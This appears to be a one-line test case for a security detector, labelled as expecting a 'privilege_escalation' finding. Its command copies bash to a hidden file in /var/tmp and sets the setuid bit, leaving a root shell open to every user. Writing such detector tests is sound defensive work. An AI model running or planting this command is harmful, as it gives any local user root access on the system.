# about: a shell of root is left for everyone
# expect: privilege_escalation medium
cp /bin/bash /var/tmp/.b; chmod u+s /var/tmp/.b; test -u /var/tmp/.b
